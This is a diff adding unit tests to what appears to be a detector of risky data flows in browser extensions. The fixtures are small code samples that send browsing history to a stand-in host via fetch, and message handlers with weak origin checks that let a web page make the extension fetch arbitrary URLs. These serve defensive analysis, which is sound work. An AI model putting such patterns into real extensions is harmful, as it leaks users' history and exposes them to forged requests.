@@ -37,6 +37,24 @@ describe('functions', () => {
     expect(await pairs(sample({ background: typescript('h.length') }))).toEqual([]);
   });
 
+  it('takes no check of a message for one that its own page or a longer name passes', async () => {
+    const asks = (test: string, content = true): Example => sample({ [content ? 'content' : 'exposed']: `window.addEventListener("message", (e) => { if (${test}) return; chrome.runtime.sendMessage({ op: "get", url: e.data.url }); });`, background: 'chrome.runtime.onMessage.addListener((m) => { if (m.op === "get") fetch(m.url); });' });
+    expect(await pairs(asks('e.origin !== window.location.origin'))).toContain('page-message > request-address');
+    expect(await pairs(asks('e.origin.indexOf("app.example") === -1'))).toContain('page-message > request-address');
+    expect(await pairs(asks('!isOurMessage(e.data)'))).toContain('page-message > request-address');
+    expect(await pairs(asks('e.origin !== "https://app.example"'))).not.toContain('page-message > request-address');
+    expect(await pairs(asks('!e.origin.endsWith(".app.example")'))).not.toContain('page-message > request-address');
+    expect(await pairs(asks('!isAllowed(e.data.url)'))).not.toContain('page-message > request-address');
+    // In a page of the extension its own origin is the extension's.
+    expect(await pairs(asks('e.origin !== location.origin', false))).not.toContain('page-message > request-address');
+  });
+
+  it('follows promises that are kept to be resolved later', async () => {
+    const later = (what: string): string => `const waiting = new Map(); function ask(id) { return new Promise((resolve) => { waiting.set(id, { resolve }); }); } chrome.history.search({}, (h) => { const { resolve } = waiting.get(1); resolve(${what}); }); ask(1).then((x) => fetch("https://a.example", { body: x }));`;
+    expect(await pairs(sample({ background: later('h') }))).toContain('history > network');
+    expect(await pairs(sample({ background: later('h.length') }))).toEqual([]);
+  });
+
   it('knows parts of the interface that are handed on, and wrappers of them', async () => {
     expect(await pairs(sample({ background: 'class Service { constructor(api) { this.api = api; } async all() { return this.api.search({}); } } new Service(chrome.history).all().then((h) => fetch("https://a.example", { body: h }));' }))).toContain('history > network');
     expect(await pairs(sample({ background: 'const later = (fn) => (...args) => new Promise((done) => fn(...args, done)); const search = later(chrome.history.search); const query = later(chrome.windows.getAll); search({}).then((h) => log(h)); query({}).then((w) => fetch("https://a.example", { body: w })); function log() {}' }))).toEqual([]);
